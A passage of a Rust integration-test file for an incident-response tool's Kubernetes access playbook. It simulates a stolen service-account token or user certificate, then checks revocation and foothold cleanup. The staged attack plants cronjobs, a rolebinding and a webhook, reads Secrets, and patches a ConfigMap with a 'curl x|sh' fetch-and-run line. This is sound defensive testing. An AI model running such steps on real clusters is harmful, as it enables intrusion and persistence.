//! The api-access and audit-review playbooks with the rights that `runbook rbac` prints, against somebody who uses a
//! service account's token or a user's certificate; what they did is told by the API server's own audit log.
//!
//! Others work on the cluster at the same time: every subject, group, namespace and object of the whole cluster that is
//! named here is this test's own.

use std::collections::BTreeMap;
use std::io::{BufRead, Write};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use serde_json::{Value, json};

use crate::support::{Desk, Namespace, Ran, apply, cluster, eventually, kubectl, quell, script};

/// A namespace with an account, what it is bound to in every way, and pods; `NAME-b` beside it.
struct Scene {
    ns: Namespace,
    beside: Namespace,
    begun: std::time::Instant,
}

/// Where kubectl lies: the nodes share this machine's disk, so a pod can mount it.
fn kubectl_folder() -> String {
    let path = std::env::var("PATH").unwrap();
    let found = path.split(':').find(|dir| std::path::Path::new(dir).join("kubectl").is_file());
    found.expect("kubectl is in PATH: eval \"$(cluster.sh env)\"").to_owned()
}

fn binding(kind: &str, namespace: &str, name: &str, role: &str, subjects: &Value) -> Value {
    let mut object = json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": kind,
        "metadata": {"name": name, "labels": {"team": "blue"}, "annotations": {"why": "the nightly report"}},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role}, "subjects": subjects,
    });
    if !namespace.is_empty() {
        object["metadata"]["namespace"] = namespace.into();
    }
    object
}

fn user(name: &str) -> Value {
    json!({"kind": "User", "name": name, "apiGroup": "rbac.authorization.k8s.io"})
}

fn group(name: &str) -> Value {
    json!({"kind": "Group", "name": name, "apiGroup": "rbac.authorization.k8s.io"})
}

fn account(namespace: &str, name: &str) -> Value {
    json!({"kind": "ServiceAccount", "name": name, "namespace": namespace})
}

fn pod(namespace: &str, name: &str, account: &str) -> Value {
    json!({
        "apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": namespace, "labels": {"app": name}},
        "spec": {"serviceAccountName": account, "terminationGracePeriodSeconds": 1,
            "containers": [{"name": "c", "image": "quell.test/busybox:1", "command": ["probe", "sleep"],
                "volumeMounts": [{"name": "kubectl", "mountPath": "/k", "readOnly": true}]}],
            "volumes": [{"name": "kubectl", "hostPath": {"path": kubectl_folder()}}]},
    })
}

fn create(all: &[Value]) {
    apply(json!({"apiVersion": "v1", "kind": "List", "items": all}).to_string().as_bytes());
}

/// Seconds before a scene that are asked for too: a busy machine plans for a while before it looks.
const BEFORE: i64 = 20;

impl Scene {
    /// `pods`: with worker (of the account), stranger (whoever has its token) and victim.
    fn set(name: &str, pods: bool) -> Scene {
        let beside = format!("{name}-b");
        kubectl(&["delete", "namespace", name, &beside, "--ignore-not-found", "--wait=true"]);
        for kind in ["clusterrolebinding", "clusterrole", "validatingwebhookconfiguration", "csr"] {
            kubectl(&["delete", kind, name, "--ignore-not-found"]);
        }
        eventually("the audit log reaches back as far as will be asked", 60, || {
            let log = std::fs::File::open(cluster().audit_log()).unwrap();
            let mut first = String::new();
            std::io::BufReader::new(log).read_line(&mut first).unwrap();
            let first: Value = serde_json::from_str(&first).unwrap();
            let began = quell::clock::parse(first["stageTimestamp"].as_str().unwrap()).unwrap();
            (quell::clock::Clock::System.now() - began).whole_seconds() > BEFORE
        });
        let begun = std::time::Instant::now();
        let space = |name: &str| json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name}});
        create(&[space(name), space(&beside)]);
        create(&[
            json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "robot", "namespace": name,
                "labels": {"team": "blue"}, "annotations": {"why": "the nightly report"}}, "imagePullSecrets": [{"name": "pull"}]}),
            json!({"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
                "metadata": {"name": "robot-token", "namespace": name, "annotations": {"kubernetes.io/service-account.name": "robot"}}}),
            json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "bank", "namespace": name}, "stringData": {"key": "kLm-9921-zzq"}}),
            json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "pipeline", "namespace": name}, "data": {"post": "true"}}),
            json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": name}, "rules": [
                {"apiGroups": [""], "resources": ["nodes"], "verbs": ["list"]},
                {"apiGroups": ["certificates.k8s.io"], "resources": ["certificatesigningrequests"], "verbs": ["create"]},
                {"apiGroups": ["admissionregistration.k8s.io"], "resources": ["validatingwebhookconfigurations"], "verbs": ["create"]},
            ]}),
        ]);
        let robot = format!("system:serviceaccount:{name}:robot");
        let carol = user(&format!("{name}-carol"));
        create(&[
            binding("ClusterRoleBinding", "", name, name, &json!([account(name, "robot"), carol])),
            // A RoleBinding's subject may leave its own namespace out.
            binding("RoleBinding", name, "robot", "admin", &json!([{"kind": "ServiceAccount", "name": "robot"}])),
            binding("RoleBinding", &beside, "by-user-name", "edit", &json!([user(&robot), carol])),
            binding("RoleBinding", &beside, "by-account", "view", &json!([carol, account(name, "robot")])),
            binding(
                "RoleBinding",
                &beside,
                "by-group",
                "view",
                &json!([group(&format!("system:serviceaccounts:{name}"))]),
            ),
            binding("RoleBinding", &beside, "namesake", "view", &json!([account(&beside, "robot")])),
        ]);
        if pods {
            create(&[pod(name, "worker", "robot"), pod(name, "stranger", "default"), pod(name, "victim", "default")]);
            kubectl(&["-n", name, "wait", "--for=condition=Ready", "pod", "--all", "--timeout=120s"]);
        }
        grant("api-access", name);
        Scene { ns: Namespace { name: name.into() }, beside: Namespace { name: beside }, begun }
    }

    fn name(&self) -> &str {
        &self.ns.name
    }

    fn robot(&self) -> String {
        format!("system:serviceaccount:{}:robot", self.name())
    }

    /// The token that the kubelet gave to the worker.
    fn bound_token(&self) -> String {
        let file = "/var/run/secrets/kubernetes.io/serviceaccount/token";
        kubectl(&["-n", self.name(), "exec", "worker", "--", "cat", file])
    }

    /// The token that lies in a Secret, once the token controller has put it there.
    fn token_in_secret(&self) -> String {
        let data = || self.ns.get("secret", "robot-token").map(|s| s["data"]["token"].clone()).unwrap_or_default();
        eventually("the token", 60, || data().is_string());
        use base64::Engine;
        String::from_utf8(base64::engine::general_purpose::STANDARD.decode(data().as_str().unwrap()).unwrap()).unwrap()
    }

    /// kubectl with a token, from the stranger's pod.
    fn as_stranger(&self, token: &str) -> Vec<String> {
        let ca = "--certificate-authority=/var/run/secrets/kubernetes.io/serviceaccount/ca.crt";
        let all = ["-n", self.name(), "exec", "-i", "stranger", "--", "/k/kubectl", &server(), ca, "-n", self.name()];
        let mut all: Vec<String> = all.map(str::to_owned).into();
        all.push(format!("--token={token}"));
        all
    }

    fn stolen(&self, token: &str, arguments: &[&str], input: &str) -> Called {
        let mut all = self.as_stranger(token);
        all.extend(arguments.iter().map(|a| (*a).to_owned()));
        called(&cluster().admin(), &all.iter().map(String::as_str).collect::<Vec<_>>(), input)
    }

    /// This scene's time and a little more.
    fn window(&self) -> String {
        format!("window={}s", self.begun.elapsed().as_secs().cast_signed() + BEFORE)
    }

    /// With nothing but what the intruder may, in this scene's time alone.
    fn run(&self, desk: &Desk, sets: &[&str]) -> Ran {
        let audit = format!("audit-log={}", cluster().audit_log().display());
        let window = self.window();
        playbook(desk, &[&[audit.as_str(), &window, "watch=2s"], sets].concat())
    }

    /// All bindings of the scene, without what the API server gives.
    fn bindings(&self) -> BTreeMap<String, Value> {
        let mut all = BTreeMap::new();
        let whole = kubectl(&["get", "clusterrolebinding", self.name(), "-o", "json", "--ignore-not-found"]);
        let mut found: Vec<Value> = serde_json::from_str(&whole).into_iter().collect();
        found.extend(self.ns.list("rolebinding"));
        found.extend(self.beside.list("rolebinding"));
        for mut one in found {
            let name = format!("{}/{}", one["metadata"]["namespace"].as_str().unwrap_or(""), one["metadata"]["name"]);
            if name.contains("quell-") {
                continue;
            }
            for key in ["uid", "resourceVersion", "managedFields", "creationTimestamp"] {
                one["metadata"].as_object_mut().unwrap().remove(key);
            }
            all.insert(name, one);
        }
        all
    }

    /// Who is named by a binding; empty when it is gone.
    fn named(&self, of: &Namespace, name: &str) -> Vec<String> {
        let found = of.get("rolebinding", name).unwrap_or_default();
        let subjects = found["subjects"].as_array().cloned().unwrap_or_default();
        subjects.iter().map(|s| s["name"].as_str().unwrap().to_owned()).collect()
    }
}

impl Drop for Scene {
    fn drop(&mut self) {
        if !std::thread::panicking() {
            for kind in ["clusterrolebinding", "clusterrole", "validatingwebhookconfiguration", "csr"] {
                kubectl(&["delete", kind, &self.ns.name, "--ignore-not-found"]);
            }
        }
    }
}

/// Exactly what `quell runbook rbac` prints, bound to the responder.
fn grant(runbook: &str, namespace: &str) {
    let printed = quell().args(["runbook", "rbac", runbook, "-n", namespace, "--user", "responder"]).output().unwrap();
    assert!(printed.status.success());
    apply(&printed.stdout);
}

fn arguments(desk: &Desk, sets: &[&str]) -> Vec<String> {
    let mut all: Vec<String> = ["run", "api-access", "-n", &desk.namespace].map(String::from).into();
    for set in sets {
        all.extend(["--set".into(), (*set).to_owned()]);
    }
    all.extend(["--yes", "--max-risk", "destructive"].map(String::from));
    all
}

fn playbook(desk: &Desk, sets: &[&str]) -> Ran {
    desk.quell(&arguments(desk, sets).iter().map(String::as_str).collect::<Vec<_>>())
}

fn server() -> String {
    let admin: Value = serde_json::from_str(&kubectl(&["config", "view", "--raw", "-o", "json"])).unwrap();
    format!("--server={}", admin["clusters"][0]["cluster"]["server"].as_str().unwrap())
}

struct Called {
    ok: bool,
    err: String,
}

/// kubectl with that kubeconfig; what it answers, whatever that is.
fn called(kubeconfig: &std::path::Path, arguments: &[&str], input: &str) -> Called {
    let mut child = Command::new("kubectl")
        .arg("--kubeconfig")
        .arg(kubeconfig)
        .args(arguments)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
    let output = child.wait_with_output().unwrap();
    Called { ok: output.status.success(), err: String::from_utf8_lossy(&output.stderr).into_owned() }
}

/// Lines of the API server's audit log that hold each of these.
fn audit_lines(with: &[&str]) -> Vec<Value> {
    let text = std::fs::read(cluster().audit_log()).unwrap();
    let text = String::from_utf8_lossy(&text);
    let lines = text.lines().filter(|l| with.iter().all(|w| l.contains(w)));
    lines.filter_map(|l| serde_json::from_str(l).ok()).collect()
}

/// The payload of a token.
fn claims(token: &str) -> Value {
    use base64::Engine;
    let body = token.split('.').nth(1).unwrap();
    serde_json::from_slice(&base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(body).unwrap()).unwrap()
}

/// A request for a certificate of that name, as the API takes it.
fn signing_request(object: &str, subject: &str, seconds: Option<u64>) -> (String, String) {
    let dir = tempfile::tempdir().unwrap();
    let (key, request) = (dir.path().join("key"), dir.path().join("csr"));
    let made = Command::new("openssl")
        .args(["req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-subj", subject])
        .arg("-keyout")
        .arg(&key)
        .arg("-out")
        .arg(&request)
        .output()
        .unwrap();
    assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
    use base64::Engine;
    let body = base64::engine::general_purpose::STANDARD.encode(std::fs::read(&request).unwrap());
    let mut spec =
        json!({"request": body, "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]});
    if let Some(seconds) = seconds {
        spec["expirationSeconds"] = seconds.into();
    }
    let object = json!({"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
        "metadata": {"name": object}, "spec": spec});
    (object.to_string(), std::fs::read_to_string(&key).unwrap())
}

fn footholds(desk: &Desk) -> Vec<Value> {
    desk.document("data/footholds/access.footholds.json")["footholds"].as_array().unwrap().clone()
}

fn outputs(desk: &Desk, step: &str) -> Value {
    let text = std::fs::read_to_string(desk.folder().join("journal.jsonl")).unwrap();
    let records = text.lines().map(|l| serde_json::from_str::<Value>(l).unwrap());
    let mut ends = records.filter(|r| r["event"]["type"] == "step-finished" && r["event"]["step"] == step);
    ends.next_back().unwrap_or_else(|| panic!("{step} has not ended"))["event"]["outputs"].clone()
}

fn verified(desk: &Desk) {
    let verified = desk.quell(&["bundle", "verify", desk.bundle().to_str().unwrap()]);
    assert_eq!(verified.code, 0, "{}{}", verified.out, verified.err);
}

#[test]
#[ignore = "needs the real cluster (tests/cluster/README.md)"]
fn a_stolen_token_is_followed_its_rights_are_taken_and_given_back() {
    let scene = Scene::set("acc-whole", true);
    let name = scene.name().to_owned();
    let (bound, legacy) = (scene.bound_token(), scene.token_in_secret());
    // Who has the token uses the account of their own pod too.
    let own = "/var/run/secrets/kubernetes.io/serviceaccount/token";
    let own = kubectl(&["-n", &name, "exec", "stranger", "--", "cat", own]);
    assert!(!scene.stolen(&own, &["get", "secrets"], "").ok);
    let (request, _) = signing_request(&name, &format!("/CN={name}-eve"), None);
    let webhook = json!({"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration",
        "metadata": {"name": name}, "webhooks": []})
    .to_string();
    let image = "--image=quell.test/busybox:1";
    let stranger = format!("--user={name}-eve");
    let attack: &[(&[&str], &str)] = &[
        (&["get", "secret", "bank", "-o", "name"], ""),
        (&["get", "secrets", "-o", "name"], ""),
        (&["get", "nodes", "-o", "name"], ""),
        (&["create", "deployment", "cache-warmer", image, "--replicas=0"], ""),
        (&["create", "cronjob", "nightly", image, "--schedule=0 0 1 1 *"], ""),
        (&["create", "cronjob", "once", image, "--schedule=0 0 1 1 *"], ""),
        (&["patch", "configmap", "pipeline", "-p", r#"{"data":{"post":"curl x|sh"}}"#], ""),
        (&["create", "rolebinding", "backup-sync", "--clusterrole=view", &stranger], ""),
        (&["create", "token", "robot"], ""),
        (&["create", "-f", "-"], &webhook),
        (&["create", "-f", "-"], &request),
        (&["exec", "victim", "--", "true"], ""),
        (&["delete", "cronjob", "once"], ""),
    ];
    for (arguments, input) in attack {
        let called = scene.stolen(&bound, arguments, input);
        assert!(called.ok, "{arguments:?}: {}", called.err);
    }
    let denied = scene.stolen(&bound, &["-n", "kube-system", "get", "secret", &name], "");
    assert!(denied.err.contains("Forbidden"), "{}", denied.err);
    assert!(scene.stolen(&legacy, &["get", "pods", "-o", "name"], "").ok);
    let before = scene.bindings();

    // From a token's id to who it is, and not to the kubelet that had it issued; an address leads to two, and none is
    // chosen.
    let (id, ip) = (claims(&bound)["jti"].as_str().unwrap().to_owned(), scene.ns.get("pod", "stranger").unwrap());
    let desk = Desk::new(&scene.ns);
    let only = |set: &str| {
        let audit = format!("audit-log={}", cluster().audit_log().display());
        let window = scene.window();
        let mut all = arguments(&desk, &[&audit, &window, set]);
        all.extend(["--only", "identify"].map(String::from));
        desk.quell(&all.iter().map(String::as_str).collect::<Vec<_>>())
    };
    let ran = only(&format!("session={id}"));
    assert_eq!(outputs(&desk, "identify")["username"], scene.robot(), "{}", ran.err);
    let ran = only(&format!("address={}", ip["status"]["podIP"].as_str().unwrap()));
    assert_eq!(ran.code, 6, "{}", ran.err);
    for who in [scene.robot(), format!("system:serviceaccount:{name}:default")] {
        assert!(ran.err.contains("2 identities fit") && ran.err.contains(&who), "{who}\n{}", ran.err);
    }

    let desk = Desk::new(&scene.ns);
    let ran = scene.run(&desk, &[&format!("subject={name}/robot")]);
    assert_eq!(ran.code, 7, "a group still gives it rights\n{}", ran.err);
    let steps = desk.steps();
    for (step, status) in
        [("identify", "verified"), ("revoke", "refuted"), ("review", "verified"), ("footholds", "verified")]
    {
        assert_eq!(steps[step], status, "{step}\n{}", ran.err);
    }

    // Who it is, how it came, and who else came the same way.
    let found = desk.document("data/identify/identity.json")["identity"].clone();
    let from = ip["status"]["podIP"].as_str().unwrap().to_owned();
    let uid = scene.ns.get("serviceaccount", "robot").unwrap()["metadata"]["uid"].clone();
    assert_eq!((&found["username"], &found["uid"]), (&json!(scene.robot()), &uid));
    assert_eq!(
        found["groups"],
        json!(["system:authenticated", "system:serviceaccounts", format!("system:serviceaccounts:{name}")])
    );
    assert_eq!(found["addresses"][0]["value"], from.as_str());
    assert!(found["agents"][0]["value"].as_str().unwrap().starts_with("kubectl/"));
    let credentials = found["credentials"].as_array().unwrap();
    let id = format!("JTI={}", claims(&bound)["jti"].as_str().unwrap());
    let token = credentials.iter().find(|c| c["id"] == id.as_str()).unwrap_or_else(|| panic!("{credentials:#?}"));
    assert_eq!((&token["pod"][0], &token["addresses"]), (&json!("worker"), &json!([from])));
    assert!(credentials.iter().any(|c| c["secret"] == "robot-token"), "{credentials:#?}");
    let others = found["others"].as_array().unwrap();
    let same = format!("system:serviceaccount:{name}:default");
    assert!(
        others.iter().any(|o| o["user"] == same.as_str() && o["shares"] == format!("address {from}")),
        "{others:#?}"
    );
    // And all of that is said, not only kept.
    for text in [&id, "of Pod worker", &from, &format!("came also {same}"), "the token in Secret robot-token"] {
        assert!(ran.err.contains(text), "{text}\n{}", ran.err);
    }

    // Out of every binding that names it in any way, and nobody else is.
    let carol = [format!("{name}-carol")];
    assert_eq!(scene.named(&scene.ns, "robot"), [""; 0]);
    assert_eq!(scene.named(&scene.beside, "by-user-name"), carol);
    assert_eq!(scene.named(&scene.beside, "by-account"), carol);
    assert_eq!(scene.named(&scene.beside, "namesake"), ["robot"]);
    assert_eq!(scene.named(&scene.beside, "by-group"), [format!("system:serviceaccounts:{name}")]);
    let whole = kubectl(&["get", "clusterrolebinding", &name, "-o", "jsonpath={.subjects[*].name}"]);
    assert_eq!(whole, carol[0]);
    let revoked = outputs(&desk, "revoke");
    let had = revoked["allowed_before"].as_array().unwrap();
    for right in [format!("get secrets in namespace {name}"), format!("create pods in namespace {}-b", name)] {
        assert!(had.contains(&json!(right)), "{right}: {had:#?}");
    }
    let left = revoked["allowed_after"].as_array().unwrap();
    assert_eq!(left.len(), 1, "{left:#?}");
    assert_eq!(left[0]["right"], format!("list pods in namespace {name}-b"));
    assert!(left[0]["reason"].as_str().unwrap().contains("by-group"), "{left:#?}");
    assert!(ran.err.contains(&format!("gives it rights by group system:serviceaccounts:{name} and is left")));
    assert!(ran.err.contains("valid until Pod worker is gone"), "{}", ran.err);
    let taken =
        format!("came from {}, which is neither that pod's nor its node's", ip["status"]["podIP"].as_str().unwrap());
    assert!(ran.err.contains(&taken), "{}", ran.err);
    // The API server agrees: the token is still taken, and may nothing but what the group gives.
    let refused = scene.stolen(&bound, &["get", "secret", "bank"], "");
    assert!(refused.err.contains("Forbidden"), "{}", refused.err);
    assert!(scene.stolen(&bound, &["-n", &scene.beside.name, "get", "pods"], "").ok);
    assert!(scene.ns.get("secret", "robot-token").is_none());
    assert!(ran.err.contains("Secret acc-whole/robot-token of that UID is gone: its token is refused"), "{}", ran.err);
    eventually("the token of the Secret is refused", 60, || {
        scene.stolen(&legacy, &["get", "pods"], "").err.contains("Unauthorized")
    });

    // What it did, in order; what it left behind, by the objects' own UIDs.
    let review = desk.document("data/review/access.review.json");
    let mut calls: Vec<&Value> =
        review["groups"].as_object().unwrap().values().flat_map(|g| g["calls"].as_array().unwrap()).collect();
    calls.sort_by_key(|c| c["n"].as_u64());
    let times: Vec<&str> = calls.iter().map(|c| c["time"].as_str().unwrap()).collect();
    assert!(times.is_sorted(), "{times:?}");
    assert_eq!(review["groups"]["secret-read"]["count"], 3, "{:#}", review["groups"]["secret-read"]);
    assert_eq!(review["denied"], 1);
    let slice = std::fs::read_to_string(desk.folder().join("data/review/access.slice.jsonl")).unwrap();
    assert_eq!(slice.lines().count(), calls.len());
    assert!(slice.lines().all(|l| l.contains(&scene.robot())));
    let all = footholds(&desk);
    let uid = |kind: &str, object: &str| {
        let text = kubectl(&["-n", &name, "get", kind, object, "-o", "jsonpath={.metadata.uid}", "--ignore-not-found"]);
        text.trim().to_owned()
    };
    for (resource, object, step) in [
        ("deployments", "cache-warmer", "remove"),
        ("cronjobs", "nightly", "remove"),
        ("rolebindings", "backup-sync", "remove"),
        ("validatingwebhookconfigurations", name.as_str(), "remove"),
        ("certificatesigningrequests", name.as_str(), "remove"),
        ("configmaps", "pipeline", "look"),
        ("serviceaccounts", "robot", "rotate"),
        ("pods", "victim", "isolate"),
    ] {
        let one = all.iter().find(|f| f["resource"] == resource && f["name"] == object);
        let one = one.unwrap_or_else(|| panic!("{resource} {object}: {all:#?}"));
        assert_eq!(
            (&one["present"], one["uid"].as_str()),
            (&json!("yes"), Some(uid(resource, object).as_str())),
            "{one:#}"
        );
        assert_eq!(one["step"], step, "{one:#}");
        assert!(ran.err.contains(one["command"].as_str().unwrap()), "{}", ran.err);
    }
    let once = all.iter().find(|f| f["name"] == "once").unwrap();
    assert_eq!(once["present"], "no");
    let read = all.iter().find(|f| f["kind"] == "secret-read" && f["name"] == "bank").unwrap();
    assert_eq!(read["command"], format!("quell run exposed-secret -n {name} --set secret=bank"));
    assert!(!ran.err.contains("kLm-9921-zzq") && !ran.err.contains(&bound) && !ran.err.contains(&legacy));
    for secret in [bound.as_str(), &legacy, "kLm-9921-zzq"] {
        let held = Command::new("grep").args(["-rlF", secret]).arg(desk.home.path()).output().unwrap();
        assert!(held.stdout.is_empty(), "{}", String::from_utf8_lossy(&held.stdout));
    }
    verified(&desk);

    // The offered command works as it stands.
    let offered = all.iter().find(|f| f["name"] == "backup-sync").unwrap()["command"].as_str().unwrap().to_owned();
    kubectl(&offered.split(' ').skip(1).collect::<Vec<_>>());
    let mut expected = before.clone();
    expected.retain(|name, _| !name.contains("backup-sync"));
    let undone = desk.quell(&["undo", "last", "--yes"]);
    assert_eq!(scene.bindings(), expected, "{}", undone.err);
    assert!(scene.stolen(&bound, &["get", "secret", "bank"], "").ok, "its rights are as they were");
}

/// A kubectl that goes on until it is cut off, ended with the test.
struct Stream(Child);

impl Drop for Stream {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

impl Stream {
    fn begin(arguments: &[String]) -> Stream {
        let mut command = Command::new("kubectl");
        command.arg("--kubeconfig").arg(cluster().admin()).args(arguments);
        Stream(command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap())
    }

    fn ended(&mut self) -> bool {
        self.0.try_wait().unwrap().is_some()
    }
}

#[test]
#[ignore = "needs the real cluster (tests/cluster/README.md)"]
fn pods_streams_group_rights_and_the_account_itself_end_where_it_is_asked_for() {
    let scene = Scene::set("acc-end", true);
    let name = scene.name().to_owned();
    let bound = scene.bound_token();
    let free = kubectl(&["-n", &name, "create", "token", "robot"]);
    assert!(scene.stolen(&free, &["get", "pods", "-o", "name"], "").ok);
    // A shell in the victim, from outside; and a watch of Secrets by the worker itself.
    let mut into = scene.as_stranger(&bound);
    into.extend(["exec", "victim", "--", "probe", "sleep"].map(String::from));
    let mut shell = Stream::begin(&into);
    let folder = "/var/run/secrets/kubernetes.io/serviceaccount";
    let watch = format!(
        "exec /k/kubectl {} --certificate-authority={folder}/ca.crt --token=$(cat {folder}/token) -n {name} get secrets --watch",
        server()
    );
    let mut watching = Stream::begin(&["-n", &name, "exec", "worker", "--", "sh", "-c", &watch].map(String::from));
    // Its own requests, not the access reviews about it.
    let stage = |what: &str, stage: &str| {
        let lines = audit_lines(&[&scene.robot(), &format!("\"stage\":\"{stage}\""), what]);
        lines.iter().filter(|l| l["user"]["username"] == scene.robot().as_str()).count()
    };
    let (exec, watches) = ("\"subresource\":\"exec\"", "\"verb\":\"watch\"");
    eventually("both streams are open", 60, || {
        stage(exec, "ResponseStarted") > 0 && stage(watches, "ResponseStarted") > 0
    });
    assert!(!shell.ended() && !watching.ended());

    let desk = Desk::new(&scene.ns);
    let group = format!("remove-groups=system:serviceaccounts:{name}");
    let subject = format!("subject={name}/robot");
    let ran = scene.run(&desk, &[&subject, "end-pods=true", "end-streams=true", &group]);
    let steps = desk.steps();
    assert_eq!((steps["revoke"].as_str(), steps["review"].as_str()), ("verified", "verified"), "{}", ran.err);
    assert!(scene.named(&scene.beside, "by-group").is_empty(), "{}", ran.err);
    let revoked = outputs(&desk, "revoke");
    assert_eq!(revoked["allowed_after"], json!([]), "{revoked:#}");
    for pod in ["worker", "victim"] {
        assert!(scene.ns.get("pod", pod).is_none(), "{pod}\n{}", ran.err);
        assert!(ran.err.contains(&format!("Pod {name}/{pod} of that UID is gone")), "{}", ran.err);
    }
    // Cut, by both ends' word: the client's, and the API server's log.
    eventually("the shell's client ends", 60, || shell.ended());
    eventually("the watch's client ends", 60, || watching.ended());
    assert_eq!(stage(exec, "ResponseStarted"), stage(exec, "ResponseComplete"));
    assert_eq!(stage(watches, "ResponseStarted"), stage(watches, "ResponseComplete"));
    let review = desk.document("data/review/access.review.json");
    assert!(!review.to_string().contains(r#""perhaps_still_open":true"#), "{}", ran.err);
    let rest = revoked["remaining"].to_string();
    assert!(!rest.contains("exec into") && !rest.contains("watch of") && !rest.contains("Pod worker"), "{rest}");
    // The free token is still taken, which is said.
    let id = format!("JTI={}", claims(&free)["jti"].as_str().unwrap());
    assert!(rest.contains(&id) && ran.err.contains("recreate-account ends every token of the account"), "{}", ran.err);
    eventually("the bound token is refused", 120, || {
        scene.stolen(&bound, &["get", "pods"], "").err.contains("Unauthorized")
    });
    assert!(scene.stolen(&free, &["get", "pods"], "").err.contains("Forbidden"));

    // The account anew: as it was, but for its UID.
    let was = scene.ns.get("serviceaccount", "robot").unwrap();
    let again = Desk::new(&scene.ns);
    let ran = scene.run(&again, &[&subject, "recreate-account=true"]);
    assert_eq!(again.steps()["revoke"], "verified", "{}", ran.err);
    let is = scene.ns.get("serviceaccount", "robot").unwrap();
    assert_ne!(was["metadata"]["uid"], is["metadata"]["uid"]);
    for place in ["/metadata/labels", "/metadata/annotations", "/imagePullSecrets"] {
        assert_eq!(was.pointer(place), is.pointer(place), "{place}");
    }
    assert!(!outputs(&again, "revoke")["remaining"].to_string().contains(&id));
    eventually("every token of it is refused", 60, || {
        scene.stolen(&free, &["get", "pods"], "").err.contains("Unauthorized")
    });
    verified(&again);
}

/// A user's kubeconfig, made once.
fn certificate_user(name: &str, groups: &[&str]) -> std::path::PathBuf {
    let path = cluster().admin().with_file_name(format!("{name}.kubeconfig"));
    if !path.exists() {
        script(&[&["user", name], groups].concat());
    }
    path
}

/// Another certificate of that user, by a signing request that stays in the cluster; its kubeconfig.
fn signed_user(desk: &Desk, object: &str, name: &str, groups: &[&str]) -> std::path::PathBuf {
    let subject: String = groups.iter().map(|g| format!("/O={g}")).chain([format!("/CN={name}")]).collect();
    let (request, key) = signing_request(object, &subject, Some(7200));
    apply(request.as_bytes());
    kubectl(&["certificate", "approve", object]);
    let certificate = || kubectl(&["get", "csr", object, "-o", "jsonpath={.status.certificate}"]).trim().to_owned();
    eventually("the certificate", 60, || !certificate().is_empty());
    let mut config: Value = serde_json::from_str(&kubectl(&["config", "view", "--raw", "-o", "json"])).unwrap();
    use base64::Engine;
    let key = base64::engine::general_purpose::STANDARD.encode(key);
    config["users"][0]["user"] = json!({"client-certificate-data": certificate(), "client-key-data": key});
    let path = desk.home.path().join("signed.kubeconfig");
    std::fs::write(&path, config.to_string()).unwrap();
    path
}

#[test]
#[ignore = "needs the real cluster (tests/cluster/README.md)"]
fn a_user_with_certificates_loses_what_name_and_group_gave_and_what_stays_is_said() {
    let scene = Scene::set("acc-user", false);
    let (name, beside) = (scene.name().to_owned(), scene.beside.name.clone());
    let (mallory, contractors) = (format!("{name}-mallory"), format!("{name}-contractors"));
    let carol = user(&format!("{name}-carol"));
    create(&[
        binding("ClusterRoleBinding", "", &name, &name, &json!([user(&mallory), carol, group(&contractors)])),
        binding("RoleBinding", &name, "contractors", "edit", &json!([group(&contractors), carol])),
        binding("RoleBinding", &name, "mallory", "admin", &json!([user(&mallory)])),
        binding("RoleBinding", &beside, "mallory", "view", &json!([carol, user(&mallory)])),
        // An account of the same name is somebody else.
        binding("RoleBinding", &beside, "account", "view", &json!([account(&beside, &mallory)])),
    ]);
    let desk = Desk::new(&scene.ns);
    let first = certificate_user(&mallory, &[&contractors]);
    let second = signed_user(&desk, &name, &mallory, &[&contractors]);
    for config in [&first, &second] {
        let called = called(config, &["-n", &name, "get", "secret", "bank", "-o", "name"], "");
        assert!(called.ok, "{}", called.err);
    }
    let before = scene.bindings();
    let sets = [format!("subject={mallory}"), format!("remove-groups={contractors}")];
    let ran = scene.run(&desk, &sets.each_ref().map(String::as_str));
    assert_eq!(desk.steps()["revoke"], "verified", "{}", ran.err);
    let found = desk.document("data/identify/identity.json")["identity"].clone();
    assert_eq!(found["groups"], json!([contractors, "system:authenticated"]), "{found:#}");
    let ids: Vec<&str> = found["credentials"].as_array().unwrap().iter().map(|c| c["id"].as_str().unwrap()).collect();
    assert!(ids.len() == 2 && ids.iter().all(|id| id.starts_with("X509SHA256=")), "{ids:?}");
    assert_eq!(scene.named(&scene.ns, "contractors"), [format!("{name}-carol")]);
    assert!(scene.ns.get("rolebinding", "mallory").is_none());
    assert_eq!(scene.named(&scene.beside, "mallory"), [format!("{name}-carol")]);
    assert_eq!(scene.named(&scene.beside, "account"), [mallory.as_str()]);
    // Of the one whose request is in the cluster its end is known; the other's is not, which is said.
    let rest = outputs(&desk, "revoke")["remaining"].clone();
    let rest: Vec<(&str, &str)> = rest
        .as_array()
        .unwrap()
        .iter()
        .map(|r| (r["what"].as_str().unwrap(), r["until"].as_str().unwrap()))
        .filter(|(what, _)| what.contains("certificate"))
        .collect();
    assert_eq!(rest.len(), 2, "{rest:?}");
    let known = rest.iter().filter_map(|(_, until)| quell::clock::parse(until.strip_prefix("until ")?).ok());
    let known: Vec<_> = known.collect();
    assert_eq!(known.len(), 1, "{rest:?}");
    assert!(rest.iter().any(|(_, until)| until.contains("neither the log nor a signing request tells")), "{rest:?}");
    assert!(ran.err.contains("Kubernetes can't revoke it"), "{}", ran.err);
